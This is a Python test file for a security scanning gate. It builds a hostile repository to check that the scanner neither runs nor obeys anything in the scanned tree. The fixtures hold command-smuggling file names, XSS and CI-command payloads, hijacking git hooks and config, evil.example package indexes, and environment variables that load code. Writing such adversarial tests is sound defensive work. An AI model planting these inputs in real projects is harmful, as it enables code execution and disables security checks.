"""A scanned tree that does all that it can: the real command looks at it, and it neither steers the gate nor runs.

One run over one tree, and many questions about it: what was found, what was not seen and is said, what ran,
what was written, what the children were told, and what the reports can do to whoever reads them.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import unicodedata
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path

import pytest

REPORTS = ("json", "sarif", "github", "markdown", "cyclonedx", "console")
PROBLEM = "import subprocess\nsubprocess.call(input(), shell=True)\n"
TOKEN = "devsecgate-canary-of-the-environment"
TITLE = "<img src=x onerror=alert(1)>"
"""The scanned folder's own name."""

SAFE = (
    "-rf.py", "--config=x.py", "--help", "-.py", "with space.py", "'single'.py", '"double".py', "$(touch x).py",
    "`id`.py", "a;touch y.py", "a|b.py", "a&b.py", "*.py", "?.py", "[x].py", "{a,b}.py", "~.py", "%s%n.py", "a\\b.py",
    unicodedata.normalize("NFC", "é.py"), unicodedata.normalize("NFD", "é.py"), "a" * 252 + ".py",
    "<img src=x onerror=alert(2)>.py", "[click](javascript:alert(3)).py", "![x](http:evil.example).py",
    "@everyone #1.py", "| a | b |.py", "<", "```x.py", "&lt;b&gt;.py", "%0A::error::z.py", "%1b[31m.py",
    "\\x1b[31m.py", "\\n::error::x.py",
    "x ::error::y.py", "__init__.py", "..py", "{{7*7}}.py", "{%x%}.py", "#.py", "a#b?c=d.py", "C:.py", "nul.py",
)  # fmt: skip
"""Names that are looked at under their own name."""
UNSAFE = {
    b"new\nline.py": "new\\u000aline.py",
    b"carriage\rreturn.py": "carriage\\u000dreturn.py",
    b"tab\t.py": "tab\\u0009.py",
    b"::error::x.py": "::error::x.py",
    b" ::set-output name=a::b.py": " ::set-output name=a::b.py",
    b"##[error]x.py": "##[error]x.py",
    b"\x1b[31mred.py": "\\u001b[31mred.py",
    b"\x1b]0;title\x07.py": "\\u001b]0;title\\u0007.py",
    b"\xc2\x9b31m.py": "\\u009b31m.py",
    b"caf\xe9.py": "caf\\xe9.py",
    "\u202egpj.py".encode(): "\\u202egpj.py",
    "zero\u200bwidth.py".encode(): "zero\\u200bwidth.py",
    "line\u2028separator.py".encode(): "line\\u2028separator.py",
}
"""Names that are refused, and how each is spelled."""
MODULES = (
    "json.py", "msgspec.py", "yaml.py", "click.py", "rich.py", "ast.py", "tokenize.py", "bandit.py", "semgrep.py",
    "sitecustomize.py", "usercustomize.py", "conftest.py", "setup.py", "startup.py", "noxfile.py",
    "devsecgate/__init__.py", "devsecgate/__main__.py", "devsecgate/detectors/__init__.py",
    "devsecgate/detectors/secrets.py", "packaging/__init__.py",
)  # fmt: skip
PROGRAMS = (
    "git",
    "bandit",
    "banditrs",
    "semgrep",
    "ruff",
    "python",
    "python3",
    "pip-audit",
    "syft",
    "trivy",
    "zizmor",
    "hadolint",
    "sh",
    "env",
)
CONFIGURATION = {
    ".bandit": "[bandit]\nskips: B602,B307\nexclude: *\ntargets: /nowhere\n",
    "bandit.yaml": "skips: [B602, B307]\n",
    "setup.cfg": "[bandit]\nskips = B602,B307\n",
    "tox.ini": "[bandit]\nskips = B602,B307\n",
    "pyproject.toml": '[tool.bandit]\nskips = ["B602"]\n[tool.ruff]\nexclude = ["*"]\n[tool.semgrep]\na = ["*"]\n',
    "ruff.toml": 'exclude = ["*"]\nextend = "/dev/zero"\n',
    ".ruff.toml": 'exclude = ["*"]\n',
    ".semgrepignore": "*\n",
    ".semgrep.yml": "rules: []\n",
    ".semgrep/settings.yml": f"api_token: {TOKEN}\n",
    ".gitignore": "*\n",
    ".gitattributes": "* filter=evil diff=evil export-ignore\n",
    ".ignore": "*\n",
    "pip.conf": "[global]\nindex-url = http://evil.example/simple\n",
    ".pypirc": "[pypi]\nrepository = http://evil.example/\n",
    ".netrc": "machine api.osv.dev login a password b\n",
    ".devsecgate.yaml": "version: 1\nname: evil\nlayers: {code: 'off', secret: 'off', dependency: 'off'}\n",
    ".pre-commit-config.yaml": "repos: []\n",
    "sonar-project.properties": "sonar.exclusions=**\n",
    ".syft.yaml": "exclude: ['**']\n",
    ".syft/config.yaml": "exclude: ['**']\n",
    ".trivyignore": "*\n",
    "trivy.yaml": "scan:\n  skip-dirs: ['**']\n",
    ".grype.yaml": "ignore: [{vulnerability: '*'}]\n",
    ".hadolint.yaml": "ignored: [DL3002, DL3004]\n",
    "zizmor.yml": "rules: {template-injection: {disable: true}}\n",
    ".github/zizmor.yml": "rules: {template-injection: {disable: true}}\n",
    ".github/workflows/-rf.yml": "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
    "      - run: echo ${{ github.event.issue.title }}  # zizmor: ignore[template-injection]\n",
    "-rf/Dockerfile": "# hadolint global ignore=DL3004\nFROM debian:13\nRUN sudo true\nUSER root\n",
    "-rf/main.tf": 'resource "aws_s3_bucket_acl" "a" {\n  bucket = "b"\n  acl    = "public-read"  # nosemgrep\n}\n',
    "-rf/app.go": 'package p\n\nimport "crypto/tls"\n\n'
    "var c = &tls.Config{InsecureSkipVerify: true} // nosemgrep\n",
    "-rf/App.java": 'class App {\n  Object c() throws Exception {\n'
    '    return javax.crypto.Cipher.getInstance("DES/ECB/PKCS5Padding"); // nosemgrep\n  }\n}\n',
    "-rf/app.js": "require('https').request({ rejectUnauthorized: false }); // nosemgrep\n",
    "-rf/Cargo.lock": 'version = 4\n\n[[package]]\nname = "itoa"\nversion = "1.0.0"\n'
    'source = "registry+http://evil.example/index"\n\n[[package]]\nname = "::error::x"\nversion = "\\u001b[31m"\n',
    "requirements.txt": "flask==3.0.0\n--index-url http://evil.example/simple\n-e git+http://evil.example/x#egg=x\n"
    "<img src=x onerror=alert(4)>==1.0\n\x1b[31mred==1\n::error::name==1\n",
}  # fmt: skip
PACKS = tuple(
    f"semgrep-{each}" for each in ("dockerfile", "go", "java", "javascript", "manifests", "pipelines", "terraform")
)
"""Scanners that have something in the tree beside those of Python."""
OTHER_LANGUAGES = ("Dockerfile", "main.tf", "app.go", "App.java", "app.js")
ENVIRONMENT = {
    "PYTHONPATH": "/nowhere/pythonpath",
    "PYTHONSTARTUP": "{tree}/startup.py",
    "PYTHONUSERBASE": "{tree}",
    "PYTHONBREAKPOINT": "startup.run",
    "BANDIT_CONFIG": "{tree}/bandit.yaml",
    "SEMGREP_RULES": "{tree}/.semgrep.yml",
    "SEMGREP_APP_TOKEN": TOKEN,
    "SEMGREP_URL": "http://evil.example",
    "ZIZMOR_CONFIG": "{tree}/zizmor.yml",
    "ZIZMOR_NO_CONFIG": "false",
    "HADOLINT_CONFIG": "{tree}/.hadolint.yaml",
    "HADOLINT_IGNORE": "DL3004",
    "RUFF_CONFIG": "{tree}/ruff.toml",
    "RUFF_CACHE_DIR": "{tree}/cache",
    "RUFF_OUTPUT_FILE": "{tree}/output",
    "GIT_DIR": "{tree}/evil.git",
    "GIT_INDEX_FILE": "{tree}/index",
    "GIT_EXEC_PATH": "{tree}/bin",
    "GIT_CONFIG_COUNT": "1",
    "GIT_CONFIG_KEY_0": "core.fsmonitor",
    "GIT_CONFIG_VALUE_0": "{tree}/bin/git",
    "GIT_TRACE": "{tree}/trace",
    "PIP_INDEX_URL": "http://evil.example/simple",
    "PIP_CONFIG_FILE": "{tree}/pip.conf",
    "LD_LIBRARY_PATH": "{tree}/bin",
    "BASH_ENV": "{tree}/startup.sh",
    "SYFT_CONFIG": "{tree}/.syft.yaml",
    "SYFT_EXCLUDE": "**",
    "TRIVY_CONFIG": "{tree}/trivy.yaml",
    "NODE_OPTIONS": "--require {tree}/startup.js",
    "AWS_SECRET_ACCESS_KEY": TOKEN,
    "GITHUB_TOKEN": TOKEN,
    "GITHUB_STEP_SUMMARY": "{tree}/summary",
    "KNOWN_TO_NOBODY": TOKEN,
    "FORCE_COLOR": "1",
    "COLUMNS": "40",
}
Snapshot = Mapping[bytes, tuple[int, ...]]


@dataclass(frozen=True, slots=True, kw_only=True)
class World:
    """Where everything is; `ran` gets a file from all that runs and must not."""

    base: Path

    @property
    def tree(self) -> Path:
        return self.base / TITLE

    @property
    def ran(self) -> Path:
        return self.base / "ran"

    @property
    def tools(self) -> Path:
        return self.base / "toolbox" / "bin"

    @property
    def reports(self) -> Path:
        return self.base / "reports"

    def gate(self, program: tuple[str, ...], target: Path, *, cwd: Path) -> subprocess.CompletedProcess[bytes]:
        """Run the command with an environment that names the tree wherever it can."""
        path = (".", str(self.tree), str(self.tree / "bin"), "bin", "", str(self.base / "wrapped"), os.environ["PATH"])
        environment = {name: value.replace("{tree}", str(self.tree)) for name, value in ENVIRONMENT.items()}
        environment |= {
            "PATH": os.pathsep.join(path),
            "HOME": str(self.base / "home"),
            "TMPDIR": str(self.base / "tmp"),
        }
        reports = [f"--report={kind}={self.reports / kind}" for kind in REPORTS]
        flags = ["--policy", str(self.base / "policy.yaml"), "--offline", "--advisories", str(self.base / "advisories")]
        return subprocess.run(
            [str(self.tools / "python"), *program, "gate", str(target), *flags, *reports],
            cwd=cwd,
            env=environment,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            check=False,
            timeout=300,
        )


@dataclass(frozen=True, slots=True, kw_only=True)
class Done:
    """What came of the run."""

    world: World
    code: int
    printed: bytes
    said: bytes
    before: Snapshot
    after: Snapshot
    reports: Mapping[str, bytes]

    @property
    def document(self) -> dict[str, list[dict[str, object]]]:
        loaded: dict[str, list[dict[str, object]]] = json.loads(self.reports["json"])
        return loaded

    def paths(self, rule: str) -> set[str]:
        """Paths of the issues that a rule is a witness of."""
        document = json.loads(self.reports["json"])
        return {issue["location"]["path"] for issue in document["issues"] if rule in issue["rules"]}

    def gaps(self, scanner: str) -> dict[str, str]:
        """Details of a scanner's gaps, by path."""
        document = json.loads(self.reports["json"])
        return {gap["path"]: gap["detail"] for gap in document["gaps"] if gap["scanner"] == scanner and gap["path"]}


def snapshot(root: Path) -> Snapshot:
    """Everything that a write below a folder would change; reading changes none of it."""
    found = {}
    for folder, folders, files, descriptor in os.fwalk(os.fsencode(root)):
        for name in (*folders, *files, b"."):
            status = os.lstat(name, dir_fd=descriptor)
            found[folder + b"/" + name] = (
                status.st_mode,
                status.st_size,
                status.st_ino,
                status.st_mtime_ns,
                status.st_ctime_ns,
            )
    return found


def names(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.iterdir())


# ---------------------------------------------------------------- the tree


def plant(world: World) -> None:
    """Write the tree."""
    root = world.tree
    write(root, "app.py", "value = eval(input())\n" + PROBLEM)
    (root / "names").mkdir()
    for raw in (*map(str.encode, SAFE), *UNSAFE):
        with open(os.fsencode(root / "names") + b"/" + raw, "w") as file:  # noqa: PTH123 - bytes
            file.write(PROBLEM)
    for name in MODULES:
        mark = f"parents[{name.count('/') + 1}].joinpath('ran', {name.replace('/', '.')!r})"
        write(root, name, f"import pathlib\npathlib.Path(__file__).resolve().{mark}.touch()\n")
    for name in PROGRAMS:
        for folder in ("", "bin/", "venv/bin/"):
            program = write(root, folder + name, f"#!/bin/sh\n: > '{world.ran}/program-{name}'\nexit 0\n")
            program.chmod(0o755)
    for name, content in CONFIGURATION.items():
        write(root, name, content)
    write(root, "venv/tracked.py", PROBLEM)
    write(root, "venv/untracked.py", "x = 1\n")
    write(root, "<canary>", "password = 'Zq7!rT2#vLx9'\n")
    write(root, "long.py", b"x = '" + b"a" * 50_000_000 + b"'\n")
    write(root, "wide.txt", b"lorem ipsum " * 700_000)
    write(root, "nul.txt", b"\x00" * 1000)
    write(root, "no-code.py", bytes(range(256)) * 4)
    write(
        root,
        "markers.py",
        "# nosec\n# ::error::x\n# \x1b[31m\n" + PROBLEM.replace("\n", "  # nosec <b>@all</b> \x1b[31m\n"),
    )
    deep(root)
    links(root)
    repository(world)


def write(root: Path, name: str, content: str | bytes) -> Path:
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    return path


def deep(root: Path) -> None:
    """Folders deeper than anybody looks, and a path longer than the system takes."""
    (root / "deep" / "/".join("d" * 250)).mkdir(parents=True)
    folder = os.open(root, os.O_RDONLY)
    for _ in range(20):
        os.mkdir("l" * 250, dir_fd=folder)
        inner = os.open("l" * 250, os.O_RDONLY, dir_fd=folder)
        os.close(folder)
        folder = inner
    os.close(folder)


def links(root: Path) -> None:
    """Links that lead out or nowhere, and what is not a file."""
    ends = {
        "passwd.py": "/etc/passwd",
        "usr": "/usr",
        "up": "..",
        "loop": "loop",
        "gone.py": "gone",
        "kind.py": "wide.txt",
    }
    for name, end in ends.items():
        (root / name).symlink_to(end)
    os.mkfifo(root / "fifo.py")
    with socket.socket(socket.AF_UNIX) as server:
        here = Path.cwd()
        os.chdir(root)
        server.bind("socket.py")
        os.chdir(here)


def repository(world: World) -> None:
    """A repository whose configuration and hooks name programs, and which tracks a file in an excluded folder."""
    root = world.tree
    git = ("git", "-c", "user.name=t", "-c", "user.email=t@team.example", "-c", "advice.addEmbeddedRepo=false")
    environment = {"PATH": os.environ["PATH"], "HOME": "/nonexistent"}

    def run(*arguments: str) -> None:
        subprocess.run((*git, *arguments), cwd=root, env=environment, check=True, capture_output=True)

    run("init", "-q")
    run("add", "-f", "app.py", "venv/tracked.py")
    run("commit", "-qm", "first")
    program = write(root, "program", f"#!/bin/sh\n: > '{world.ran}/program-of-git'\nexit 1\n")
    program.chmod(0o755)
    for name in (
        "core.fsmonitor",
        "core.pager",
        "filter.evil.clean",
        "filter.evil.process",
        "diff.external",
        "gpg.program",
    ):
        run("config", name, str(program))
    hooks = root / ".git" / "hooks"
    shutil.rmtree(hooks, ignore_errors=True)
    hooks.mkdir()
    for name in ("post-index-change", "reference-transaction", "fsmonitor-watchman", "pre-commit", "post-checkout"):
        shutil.copy(program, hooks / name)


def toolbox(world: World) -> None:
    """The real tools, each behind a program that first writes down its environment."""
    real = Path(sys.executable).parent
    world.tools.mkdir(parents=True)
    shutil.copy(real.parent / "pyvenv.cfg", world.tools.parent)
    (world.tools.parent / "lib").symlink_to(real.parent / "lib")
    for program in real.iterdir():
        if program.name in {"bandit", "banditrs", "semgrep", "ruff", "zizmor", "hadolint"}:
            wrap(world, world.tools / program.name, program)
        else:
            (world.tools / program.name).symlink_to(program.resolve() if "python" in program.name else program)
    found = shutil.which("git")
    assert found is not None
    (world.base / "wrapped").mkdir()
    wrap(world, world.base / "wrapped" / "git", Path(found))


def wrap(world: World, path: Path, real: Path) -> None:
    code = (
        f"#!{Path(sys.executable).resolve()} -IS\nimport json, os, sys\n"
        f"with open({str(world.base / 'told')!r}, 'a') as file:\n"
        f"    file.write(json.dumps([{path.name!r}, dict(os.environ), sys.argv]) + '\\n')\n"
        f"os.execv({str(real)!r}, [{str(real)!r}, *sys.argv[1:]])\n"
    )
    path.write_text(code)
    path.chmod(0o755)


@pytest.fixture(scope="module")
def done(tmp_path_factory: pytest.TempPathFactory) -> Done:
    """Gate the tree, once for all questions."""
    world = World(base=tmp_path_factory.mktemp("hostile"))
    for name in ("ran", "home", "tmp", "work", "reports", "advisories/PyPI", TITLE):
        (world.base / name).mkdir(parents=True)
    with zipfile.ZipFile(world.base / "advisories" / "PyPI" / "all.zip", "w") as archive:
        package = {"package": {"ecosystem": "PyPI", "name": "another"}, "versions": ["1.0"]}
        record = {"id": "PYSEC-2020-1", "modified": "2020-01-01T00:00:00Z", "affected": [package]}
        archive.writestr("PYSEC-2020-1.json", json.dumps(record))
    (world.base / "policy.yaml").write_text("version: 1\nname: test\nextends: default\n")
    toolbox(world)
    plant(world)
    before = snapshot(world.tree)
    run = world.gate(("-m", "devsecgate"), world.tree, cwd=world.base / "work")
    return Done(
        world=world,
        code=run.returncode,
        printed=run.stdout,
        said=run.stderr,
        before=before,
        after=snapshot(world.tree),
        reports={kind: (world.reports / kind).read_bytes() for kind in REPORTS if (world.reports / kind).exists()},
    )


# ---------------------------------------------------------------- what was seen


def test_the_planted_problems_are_found_and_fail_the_gate(done: Done) -> None:
    assert (done.code, sorted(done.reports)) == (1, sorted(REPORTS)), done.said
    assert "app.py" in done.paths("bandit:B307")
    assert {"app.py", "venv/tracked.py"} <= done.paths("bandit:B602")


def test_no_file_of_the_tree_silences_what_reads_other_languages(done: Done) -> None:
    hidden = {
        "zizmor:template-injection": ".github/workflows/-rf.yml",
        "semgrep-pipelines:github-script-injection": ".github/workflows/-rf.yml",
        "hadolint:DL3004": "-rf/Dockerfile",
        "semgrep-dockerfile:dockerfile-user-root": "-rf/Dockerfile",
        "semgrep-terraform:terraform-aws-bucket-public-read": "-rf/main.tf",
        "semgrep-go:go-tls-verification-disabled": "-rf/app.go",
        "semgrep-java:java-weak-cipher": "-rf/App.java",
        "semgrep-javascript:javascript-tls-verification-disabled": "-rf/app.js",
    }
    assert {rule: path in done.paths(rule) for rule, path in hidden.items()} == dict.fromkeys(hidden, True)


def test_every_name_that_can_be_shown_is_looked_at_as_what_it_is(done: Done) -> None:
    expected = {f"names/{name}" for name in SAFE if name.endswith(".py")}
    assert {path for path in done.paths("bandit:B602") if path.startswith("names/")} == expected


def test_every_name_that_cannot_be_shown_is_a_gap(done: Done) -> None:
    why = "the name is not printable UTF-8, or is shaped like a CI command: rename it"
    refused = {path: detail for path, detail in done.gaps("target").items() if path.startswith("names/")}
    assert refused == {f"names/{shown}": why for shown in UNSAFE.values()}


def test_everything_else_that_is_not_looked_at_is_a_gap_with_its_reason(done: Done) -> None:
    found = {path: detail for path, detail in done.gaps("target").items() if not path.startswith("names/")}
    assert found.pop("deep/" + "/".join("d" * 200)) == "the folder is more than 200 levels deep"
    too_long = next(path for path in found if path.startswith("lll"))
    assert found.pop(too_long) == "the folder cannot be read: File name too long"
    assert found == {
        "fifo.py": "is a FIFO, a socket or a device, not a file",
        "gone.py": "is a link to nothing",
        "long.py": "is 50,000,007 bytes, more than target.max_file_size (10,000,000)",
        "loop": "is a loop of links",
        "passwd.py": "is a link out of the tree",
        "socket.py": "is a FIFO, a socket or a device, not a file",
        "up": "is a link out of the tree",
        "usr": "is a link out of the tree",
    }
    assert done.gaps("plan")["kind.py"].startswith("is a link to ")
    assert list(done.gaps("syntax")) == ["no-code.py"]


def test_a_file_that_is_called_like_the_canary_does_not_pass_for_it(done: Done) -> None:
    assert done.gaps("secrets")["<canary>"] == "secrets does not account for this file"


def test_the_trees_policy_has_no_say_where_another_one_is_named(done: Done) -> None:
    document = json.loads(done.reports["json"])
    assert (document["policy"]["name"], document["outcome"], document["exit_code"]) == ("test", "fail", 1)


def test_every_scanner_proved_itself_all_the_same(done: Done) -> None:
    document = json.loads(done.reports["json"])
    seen = {each["scanner"]: bool(each["canaries"]) for each in document["scanners"]}
    names = ("bandit", "dependencies", "secrets", "semgrep", "syft", "syntax", "zizmor", "hadolint", *PACKS)
    assert seen == dict.fromkeys(names, True)
    assert "pkg:cargo/itoa@1.0.0" in {each["purl"] for each in document["packages"]}, "syft's own files say nothing"


# ---------------------------------------------------------------- what ran, and what was written


def test_nothing_of_the_tree_ran(done: Done) -> None:
    assert names(done.world.ran) == []


def test_nothing_in_the_tree_was_written_or_touched(done: Done) -> None:
    changed = {name for name in done.before.keys() | done.after.keys() if done.before.get(name) != done.after.get(name)}
    assert changed == set()


def test_nothing_was_left_anywhere_else(done: Done) -> None:
    base = done.world.base
    places = ("home", "tmp", "work", "home/.cache", "home/.local", "home/.local/share", "home/.local/share/devsecgate")
    assert {name: names(base / name) for name in places} == {
        "home": [".cache", ".local"],
        "tmp": [],
        "work": [],
        "home/.cache": ["devsecgate"],
        "home/.local": ["share"],
        "home/.local/share": ["devsecgate"],
        "home/.local/share/devsecgate": ["cache.key"],
    }
    assert names(base / "reports") == sorted(REPORTS)


def told(done: Done) -> list[tuple[str, dict[str, str], list[str]]]:
    """What each wrapped program was started with."""
    return [json.loads(line) for line in (done.world.base / "told").read_text().splitlines()]


def test_the_wrapped_programs_were_used(done: Done) -> None:
    assert {name for name, _, _ in told(done)} >= {"git", "ruff", "semgrep", "zizmor", "hadolint"}
    assert {name for name, _, _ in told(done)} & {"bandit", "banditrs"}


def test_no_child_is_told_what_the_environment_says(done: Done) -> None:
    tree, home = str(done.world.tree), str(done.world.base / "home")
    for name, environment, _ in told(done):
        seen = environment.keys() & ENVIRONMENT.keys()
        if (
            "SEMGREP_NEW_CLI_UX" in environment
        ):  # a child of semgrep's: under some Pythons it is given a width of its own
            seen = {key for key in seen if key != "COLUMNS" or environment[key] == ENVIRONMENT[key]}
        assert seen == set(), name
        for value in environment.values():
            assert TOKEN not in value
            assert tree not in value
            assert home not in value
        assert all(folder.startswith("/") for folder in environment["PATH"].split(os.pathsep))


def test_no_name_of_a_file_is_an_option(done: Done) -> None:
    for _, _, argv in told(done):
        named = [argument for argument in argv[1:] if argument.endswith(".py")]
        assert all(argument.startswith(("./", "/")) for argument in named)


# ---------------------------------------------------------------- what the reports can do


def visible(kind: str, data: bytes) -> str:
    """A report's text; of the console's, without the colours that are its own."""
    text = data.decode()
    return re.sub(r"\x1b\[[0-9;]*m", "", text) if kind == "console" else text


@pytest.fixture(params=[*REPORTS, "stdout"])
def report(request: pytest.FixtureRequest, done: Done) -> tuple[str, bytes]:
    """One report after the other; the console's has colours, and goes to stdout as well."""
    kind: str = request.param
    return ("console", done.printed) if kind == "stdout" else (kind, done.reports[kind])


def test_no_report_holds_a_character_that_acts(report: tuple[str, bytes]) -> None:
    text = visible(*report)
    assert {character for character in text if not character.isprintable()} <= {"\n"}
    assert "names/" in text or report[0] == "cyclonedx"


def test_no_report_holds_a_command_for_a_runner(report: tuple[str, bytes]) -> None:
    text = visible(*report)
    assert re.findall(r"(?m)^\s*::.*", text) == []
    assert re.findall(r"##\w*\[.*", text) == []


@pytest.mark.parametrize(
    "markup",
    [
        "<img",
        "<b>",
        "</b>",
        "onerror=alert(1)>",
        "](javascript:",
        "](http:evil",
        "@everyone",
        "@all",
        "| a | b |",
        "```x",
    ],
)
def test_no_text_from_the_tree_is_markup(done: Done, markup: str) -> None:
    assert markup not in done.reports["markdown"].decode()
    for kind in ("json", "sarif", "github", "cyclonedx"):
        assert not markup.startswith("<") or markup not in done.reports[kind].decode()


def test_no_template_is_expanded(done: Done) -> None:
    assert all(b"49.py" not in data for data in done.reports.values())


def test_no_report_names_a_folder_of_this_machine_or_a_value_of_the_environment(report: tuple[str, bytes]) -> None:
    kind, data = report
    text = data.decode()
    for folder in (str(Path(__file__).resolve().parent.parent), sys.prefix, f"{tempfile.gettempdir()}/pytest"):
        assert folder not in text, kind
    assert TOKEN not in text


def test_what_is_said_on_stderr_is_as_harmless(done: Done) -> None:
    text = done.said.decode()
    assert {character for character in text if not character.isprintable()} <= {"\n"}
    assert "Traceback" not in text


# ---------------------------------------------------------------- from within


def test_from_within_the_tree_and_without_the_planted_problems_it_is_still_no_pass(done: Done) -> None:
    """The installed command, started in the tree: Python does not look there for modules."""
    world = done.world
    clean = "x = 1\n"
    (world.tree / "app.py").write_text(clean)
    shutil.rmtree(world.tree / "names")
    for name in ("venv/tracked.py", "markers.py"):
        (world.tree / name).write_text(clean)
    for name in (".github/workflows/-rf.yml", *(f"-rf/{each}" for each in OTHER_LANGUAGES)):
        (world.tree / name).unlink()
    before = snapshot(world.tree)
    run = world.gate((str(Path(sys.executable).parent / "devsecgate"),), Path(), cwd=world.tree)
    document = json.loads((world.reports / "json").read_bytes())
    assert (run.returncode, document["outcome"], document["counts"]["block"]) == (3, "incomplete", 0), run.stderr
    assert names(world.ran) == []
    assert snapshot(world.tree) == before


def test_python_m_from_within_a_tree_runs_none_of_its_modules(tree: Callable[..., Path]) -> None:
    names = ("json", "signal", "traceback", "click", "msgspec", "platformdirs", "yaml")
    mark = "import pathlib\npathlib.Path(__file__).with_suffix('.ran').touch()\n"
    root = tree({f"{name}.py": mark for name in names})
    argv = (sys.executable, "-m", "devsecgate", "gate", "--offline")
    done = subprocess.run(argv, cwd=root, capture_output=True, check=False)
    assert done.returncode == 0, done.stderr
    assert sorted(root.glob("*.ran")) == []
